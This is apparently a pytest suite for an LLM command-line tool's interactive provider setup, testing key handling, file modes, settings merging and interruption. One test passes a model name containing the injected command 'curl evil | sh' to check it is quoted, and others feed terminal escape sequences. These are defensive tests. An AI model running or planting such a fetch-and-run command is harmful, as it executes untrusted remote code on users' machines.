"""``pluggent setup`` at a terminal: what is asked, tried, written and left alone."""

import json
import os
import tomllib

import pytest
from cli_support import EVIL, STEERING
from each_of import each_of
from setup_dialog import CTRL_C, CTRL_D, KEY, MODEL, PROVIDER, READY, WRITE
from vendor_server import GOOD, HELLO, NARROW, POOR, vendor

TWO = ("--without", "pluggent-bedrock,pluggent-gemini")
"""Leaves the list of providers with two vendors, so that its numbers stay what they are."""


def test_a_new_user_gets_a_model_that_answers(setup, server):
    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert done.code == 0, done.out
    assert done.out.endswith(f"{READY}  pluggent chat\n")
    assert "Hello \\x1b[2J there!" in done.out
    assert setup.settings.read_text() == (
        "# Your settings of pluggent. All that there are: pluggent config example\n\n"
        "# What answers unless --model names another one; all: pluggent models\n"
        'model = "openai/chat-small"\n\n'
        "[plugins.pluggent-openai]\n"
        "# Where the key is, read at each request. Another one: pluggent setup openai\n"
        f'api_key = "file:{setup.key}"\n'
    )
    assert (setup.key.read_text(), setup.key.stat().st_mode & 0o777) == (f"{GOOD}\n", 0o600)
    assert setup.key.parent.stat().st_mode & 0o777 == 0o700
    assert GOOD not in done.out
    assert setup.run("run", "hi").out == f"{HELLO}\n"
    assert server.requests[-1] == ("POST /v1/chat/completions HTTP/1.1", GOOD)


def test_models_are_listed_newest_first_and_found_by_a_part_of_their_name(setup):
    done = setup(
        PROVIDER, "2\n", KEY, f"{GOOD}\n", MODEL, "CHAT\n", MODEL, "1\n", WRITE, "y\n", arguments=TWO
    )  # fmt: skip

    assert done.code == 0, done.out
    assert "24 models\n   1  other-19\n   2  other-18\n" in done.out
    assert "and 12 more: type a part of a name to see them\n" in done.out
    assert "  1  chat-small\n  2  chat-large\n" in done.out
    assert tomllib.loads(setup.settings.read_text())["model"] == "openai/chat-small"


def test_a_wrong_key_is_named_and_asked_for_again(setup):
    done = setup(
        PROVIDER, "openai\n", KEY, "sk-wrong-123456\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n"
    )  # fmt: skip

    assert done.code == 0
    assert "openai does not accept this key. Check that you copied all of it" in done.out
    assert "sk-wrong" not in done.out
    assert setup.key.read_text() == f"{GOOD}\n"


def test_what_the_server_said_stands_in_a_line_of_its_own(setup):
    done = setup(PROVIDER, "openai\n", KEY, "sk-wrong-123456\n", KEY, CTRL_C)

    assert "make a new one.\nhttp://127.0.0.1" in done.out


def test_other_means_the_one_server_that_is_to_be_named_or_asks_which(setup):
    done = setup(PROVIDER, "other\n", PROVIDER, CTRL_C, arguments=TWO)

    assert "Several are called other; type the number: 5 or 6\n" in done.out


def test_a_model_that_is_not_there_leads_to_the_list_of_models(setup):
    setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert (
        "\n  The models that there are: pluggent models openai\n" in setup.run("run", "-m", "openai/embed-1", "hi").err
    )
    assert (
        "\n  To set up a provider, or a server by its address: pluggent setup\n"
        in setup.run("run", "-m", "x/y", "hi").err
    )


@each_of("typed", ["\n", "two words\n", "schlüssel\n"])
def test_what_cannot_be_a_key_is_not_sent(setup, server, typed):
    setup(PROVIDER, "openai\n", KEY, typed, KEY, CTRL_C)

    assert (server.requests, setup.left) == ([], [])


def test_an_account_without_credit_has_a_sentence_and_a_choice(setup):
    refused = setup(PROVIDER, "openai\n", KEY, f"{POOR}\n", MODEL, "chat-small\n", "all the same? [y/N] ", "n\n")
    assert (refused.code, setup.left) == (1, [])
    assert "The key is right, but its account has no credit. Add some where you pay for openai" in refused.out

    kept = setup(
        PROVIDER, "openai\n", KEY, f"{POOR}\n", MODEL, "chat-small\n", "all the same? [y/N] ", "y\n", WRITE, "y\n"
    )  # fmt: skip
    assert (kept.code, setup.key.read_text()) == (0, f"{POOR}\n")


def test_no_network_has_a_sentence_and_another_try(setup):
    closed = {**setup.environ, "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
    setup.environ = closed

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", "Try again? [Y/n] ", "y\n", "Try again? [Y/n] ", "n\n")

    assert (done.code, setup.left) == (1, [])
    assert done.out.endswith("error: openai was not set up, and nothing was written\n")
    assert "openai cannot be reached. Check the network and, if you need a proxy, HTTPS_PROXY" in done.out
    assert "Traceback" not in done.out


def test_a_key_that_may_not_list_models_can_be_used(setup):
    done = setup(PROVIDER, "openai\n", KEY, f"{NARROW}\n", "Model: ", "chat-small\n", WRITE, "y\n")

    assert done.code == 0
    assert "It lists no models; type the name of one." in done.out


def test_a_model_that_does_not_answer_is_replaced_by_another(setup):
    done = setup(
        PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "embed-small\n", "Try another model? [Y/n] ", "\n",
        MODEL, "chat-large\n", WRITE, "\n",
    )  # fmt: skip

    assert done.code == 0
    assert "It did not work." in done.out
    assert "This is not a chat model." in done.out
    assert tomllib.loads(setup.settings.read_text())["model"] == "openai/chat-large"


def test_a_local_server_needs_no_key(setup):
    with vendor(keyless=True) as local:
        done = setup(
            PROVIDER, "lmstudio\n", "base_url [http://127.0.0.1:1234/v1]: ", f"{local.url}\n",
            MODEL, "chat-small\n", WRITE, "y\n",
        )  # fmt: skip

        assert done.code == 0, done.out
        assert tomllib.loads(setup.settings.read_text()) == {
            "model": "lmstudio/chat-small",
            "plugins": {"pluggent-openai": {"servers": {"lmstudio": {"base_url": local.url}}}},
        }
        assert {key for _, key in local.requests} == {""}
        assert setup.run("run", "hi").code == 0
    assert not setup.key.parent.exists()


def test_what_is_known_of_a_local_server_is_written_too(setup):
    with vendor(keyless=True) as local:
        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=("llamacpp",))

    assert done.code == 0, done.out
    assert tomllib.loads(setup.settings.read_text())["plugins"]["pluggent-openai"]["servers"]["llamacpp"] == {
        "base_url": local.url, "compat": {"like": "llama.cpp"},
    }  # fmt: skip


def test_a_server_of_ones_own_gets_a_name_and_a_key(setup, server):
    done = setup(
        PROVIDER, "6\n", "NAME/MODEL: ", "my lab\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=TWO,
    )  # fmt: skip

    assert done.code == 0, done.out
    written = tomllib.loads(setup.settings.read_text())["plugins"]["pluggent-openai"]["servers"]["lab"]
    assert written == {"base_url": server.url, "api_key": f"file:{setup.key.parent / 'lab'}"}
    assert setup.run("run", "--model", "lab/chat-small", "hi").code == 0


def test_a_server_of_the_settings_is_set_up_again_by_its_name(setup, server):
    setup.settings.parent.mkdir(parents=True)
    table = f'[plugins.pluggent-openai.servers.lab]\nbase_url = "{server.url}"\n'
    setup.settings.write_text(table)
    refused = setup.run("run", "--model", "lab/chat-small", "hi")
    assert "  To store a key that works: pluggent setup lab\n" in refused.err

    done = setup(
        "base_url [", "\n", "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=("lab",)
    )  # fmt: skip

    assert done.code == 0, done.out
    servers = tomllib.loads(setup.settings.read_text())["plugins"]["pluggent-openai"]["servers"]
    assert servers == {"lab": {"base_url": server.url, "api_key": f"file:{setup.key.parent / 'lab'}"}}


def test_what_a_server_says_cannot_steer_the_terminal(setup):
    with vendor(keyless=True, models=(f"evil{EVIL}", "\u5927" * 30, "x" * 300)) as local:
        done = setup(
            "/v1]: ", f"{local.url}\n", MODEL, "evil\n", MODEL, "1\n", WRITE, "y\n", arguments=("lmstudio",)
        )  # fmt: skip

    assert (done.code, STEERING & set(done.out)) == (0, set())
    assert tomllib.loads(setup.settings.read_text())["model"] == f"lmstudio/evil{EVIL}"


def test_a_very_long_name_of_a_model_does_not_fill_the_screen(setup):
    with vendor(keyless=True, models=("chat", "x" * 1_000_000)) as local:
        local.more = {"display_name": "long " * 100_000}
        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("lmstudio",))

    assert (done.code, len(done.out) < 5_000) == (0, True)


def test_a_folder_in_which_others_can_put_a_key_of_theirs_gets_none(setup):
    setup.cli.state.mkdir(parents=True, exist_ok=True)
    setup.cli.state.chmod(0o777)

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert (done.code, setup.left) == (2, [])
    assert (
        f"others can put files there (mode 0777); see what is in it, then close it: chmod go-w {setup.cli.state}"
        in (" ".join(done.out.split()))
    )


def test_the_command_to_begin_with_is_one_command_whatever_a_model_is_called(setup):
    name = "m; curl evil | sh"
    with vendor(keyless=True, models=(name,)) as local:
        done = setup(
            "/v1]: ",
            f"{local.url}\n",
            MODEL,
            "1\n",
            WRITE,
            "y\n",
            arguments=("lmstudio",),
            PLUGGENT_MODEL="offline/demo",
        )

    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'lmstudio/{name}'\n")


def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, server):
    setup.key.parent.mkdir(parents=True, mode=0o700)
    kept = setup.key.parent / "anthropic"
    kept.write_text("sk-of-anthropic\n")

    done = setup(
        PROVIDER, "6\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=TWO,
    )  # fmt: skip

    assert "anthropic is a provider already; take another name." in done.out
    assert (done.code, kept.read_text()) == (0, "sk-of-anthropic\n")


def test_what_is_not_a_url_is_asked_for_again(setup, server):
    done = setup(
        "base_url [", "ftp://x\n", "base_url [", f"{server.url}\n", KEY.replace("): ", ""), CTRL_C,
        arguments=("lmstudio",),
    )  # fmt: skip

    assert "expected http://HOST/PATH or https://HOST/PATH" in done.out
    assert setup.left == []


# ---- what is there already ---------------------------------------------------------------


def test_a_key_in_the_environment_is_used_and_not_copied(setup):
    setup.environ["OPENAI_API_KEY"] = GOOD

    done = setup(
        PROVIDER, "openai\n", "There is a key already (env:OPENAI_API_KEY). Use it? [Y/n] ", "\n",
        MODEL, "chat-small\n", WRITE, "\n",
    )  # fmt: skip

    assert done.code == 0
    assert tomllib.loads(setup.settings.read_text()) == {"model": "openai/chat-small"}
    assert not setup.key.parent.exists()


def test_settings_that_are_there_are_kept_and_a_replacement_is_asked_for(setup):
    setup.settings.parent.mkdir(parents=True)
    mine = '# mine\nmodel = "openai/old-one"  # for now\n\n# few\n[limits]\nasks = 1\n'
    setup.settings.write_text(mine)
    setup.settings.chmod(0o640)
    question = "Write this, in place of what is marked with -? [y/N] "

    refused = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", "it [old-one]: ", "chat-small\n", question, "\n")
    assert (refused.code, setup.settings.read_text(), setup.key.exists()) == (2, mine, False)
    assert '  - model = "openai/old-one"  # for now\n' in refused.out

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", "it [old-one]: ", "chat-small\n", question, "y\n")
    assert done.code == 0
    assert setup.settings.read_text().startswith(
        '# mine\nmodel = "openai/chat-small"  # for now\n\n# few\n[limits]\nasks = 1\n\n[plugins.pluggent-openai]\n'
    )
    assert setup.settings.stat().st_mode & 0o777 == 0o640

    again = setup("Use it? [Y/n] ", "y\n", "it [chat-small]: ", "\n", arguments=("openai",))
    assert again.code == 0
    assert "says this already; nothing was written." in again.out


def test_another_source_that_wins_is_named(setup):
    (setup.cli.work / "pluggent.toml").write_text('model = "offline/demo"\n')
    assert setup.run("trust").code == 0

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert "Here another model is in force (offline/demo), set by " in " ".join(done.out.split())
    assert done.out.endswith("pluggent chat --model openai/chat-small\n")


def test_a_server_of_a_trusted_project_does_not_get_the_key(setup, server):
    with vendor() as other:
        project = f'[plugins.pluggent-openai]\nbase_url = "{other.url}"\n[plugins.pluggent-openai.servers.theirs]\n'
        (setup.cli.work / "pluggent.toml").write_text(f'{project}base_url = "{other.url}"\n')
        assert setup.run("trust").code == 0

        done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert done.code == 0, done.out
    assert other.requests == []
    assert ("GET /v1/models HTTP/1.1", GOOD) in server.requests
    assert "theirs" not in done.out.partition("API key")[0].partition("Provider")[2]
    assert "only tightens here, where it is about your own settings; ignored: plugins.pluggent-openai" in " ".join(
        done.out.split()
    )


def test_a_file_in_a_form_that_cannot_be_extended_is_left_alone(setup):
    setup.settings.parent.mkdir(parents=True)
    setup.settings.write_text("plugins = { pluggent-openai = { connect_s = 3.0 } }\n")

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n")

    assert (done.code, setup.left) == (2, ["pluggent.toml"])
    assert 'set by hand: model = "openai/chat-small"; plugins.pluggent-openai.api_key = "file:' in " ".join(
        done.out.split()
    )


# ---- ending ------------------------------------------------------------------------------


@each_of(
    "keys",
    [
        (PROVIDER, CTRL_C),
        (PROVIDER, "openai\n", KEY, CTRL_C),
        (PROVIDER, "openai\n", KEY, f"{GOOD}{CTRL_C}"),
        (PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, CTRL_C),
        (PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, CTRL_C),
    ],
    ids=["provider", "key", "half a key", "model", "agreement"],
)
def test_ctrl_c_leaves_nothing_behind(setup, keys):
    with setup.cli.at_terminal("setup", **setup.environ) as terminal:
        before = terminal.attributes()
        terminal.exchange("", *keys)
        done = terminal.end()
        assert terminal.attributes() == before

    assert (done.code, setup.left) == (130, [])
    assert done.out.endswith("Interrupted; nothing was written.\n")
    assert GOOD not in done.out


def test_the_end_of_the_input_writes_nothing(setup):
    done = setup(PROVIDER, "openai\n", KEY, CTRL_D)

    assert (done.code, setup.left) == (2, [])
    assert done.out.endswith("error: pluggent setup: the input ended, and nothing was written\n")


def test_settings_that_another_program_changed_meanwhile_are_left_alone_with_the_key(setup):
    with setup.cli.at_terminal("setup", **setup.environ) as terminal:
        terminal.exchange("", PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE)
        setup.settings.parent.mkdir(parents=True)
        setup.settings.write_text("strict = true\n")
        terminal.type("y\n")
        done = terminal.end()

    assert (done.code, setup.settings.read_text(), setup.key.exists()) == (2, "strict = true\n", False)
    assert "was changed meanwhile, so nothing was written; run setup again" in done.out


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into every folder")
def test_a_folder_that_takes_no_settings_keeps_no_key(setup):
    setup.settings.parent.mkdir(parents=True)
    setup.settings.parent.chmod(0o500)

    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")

    assert (done.code, setup.key.exists()) == (2, False)


# ---- without a terminal ------------------------------------------------------------------


def test_without_a_terminal_the_lines_to_write_are_printed(setup):
    code, out, err = setup.run("setup", "openai")

    assert (code, err) == (2, "error: pluggent setup: there is no terminal to ask at, so do it by hand\n")
    assert out == (
        "Write into ~/.config/pluggent/pluggent.toml the lines of one provider:\n\n# openai\n"
        'model = "openai/MODEL"  # all of them: pluggent models openai\n\n'
        "[plugins.pluggent-openai]\n"
        'api_key = "env:OPENAI_API_KEY"  # the key, read from that variable; this is the default\n'
        f'# or from a file of mode 0600 with nothing else in it: api_key = "file:{setup.key}"\n'
    )


def test_a_local_server_is_not_offered_under_the_name_of_an_installed_provider(setup):
    """pluggent-ollama is installed beside these tests, and blocked: its name is its own."""
    offered = [one["provider"] for one in json.loads(setup.run("setup", "--json").out)["providers"]]

    assert "lmstudio" in offered
    assert "ollama" not in offered


def test_the_lines_that_are_printed_are_right(setup):
    """Each provider's lines, loaded as they are."""
    document = json.loads(setup.run("setup", "--json").out)

    assert document["exit_code"] == 2
    for one in document["providers"]:
        setup.settings.parent.mkdir(parents=True, exist_ok=True)
        setup.settings.write_text("\n".join(one["lines"]))
        assert setup.run("config", "check").code == 0, one


def test_the_json_document_says_what_was_written(setup):
    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n", arguments=("--json",))

    assert json.loads(done.out[done.out.index("{") :]) == {
        "model": "openai/chat-small", "settings": str(setup.settings), "key": f"file:{setup.key}",
        "next": "pluggent chat",
    }  # fmt: skip


# ---- providers of others -----------------------------------------------------------------

ACME = """
import attrs
from pluggent_hookspecs import FinishReason, Message, ModelResponse, Secret, Usage, hookimpl

@attrs.frozen
class Settings:
    region: str
    \"\"\"Where your account is, such as eu-1.\"\"\"
    token: Secret
    \"\"\"From the page of your account.\"\"\"
    retries: int = 3

class Acme:
    name, target = "acme", "memory:"
    def __init__(self, settings):
        self.settings = settings
    async def complete(self, request):
        text = f"{self.settings.region} {len(self.settings.token.reveal())}"
        return ModelResponse(Message.assistant(text), FinishReason.STOP, Usage(1, 1))
    async def stream(self, request):
        from pluggent_hookspecs import deltas
        yield deltas(await self.complete(request))

class Plugin:
    Settings = Settings
    def __init__(self, settings):
        self.settings = settings
    @hookimpl
    def provide_providers(self, event):
        return [Acme(self.settings)]
"""


def test_a_provider_of_others_is_asked_by_its_settings_class(setup):
    setup.cli.plugin("acme-acme", ACME, "providers")

    done = setup(
        "region: ", "eu-1\n", "token of acme (what you type is not shown): ", "secret-12\n",
        "Model: ", "any\n", WRITE, "y\n", arguments=("acme",),
    )  # fmt: skip

    assert done.code == 0, done.out
    assert "eu-1 9\n" in done.out
    assert "Where your account is, such as eu-1.\n" in done.out
    assert "From the page of your account.\n" in done.out
    assert tomllib.loads(setup.settings.read_text())["plugins"]["acme-acme"] == {
        "region": "eu-1", "token": f"file:{setup.key.parent / 'acme-token'}",
    }  # fmt: skip
    assert setup.run("run", "hi").out == "eu-1 9\n"


def test_without_a_provider_it_says_what_to_install(cli):
    done = cli("setup", "--without", f"pluggent-openai,pluggent-anthropic,{TWO[1]}")

    assert (done.code, "no provider is installed; to begin with: pip install pluggent-openai" in done.err) == (2, True)
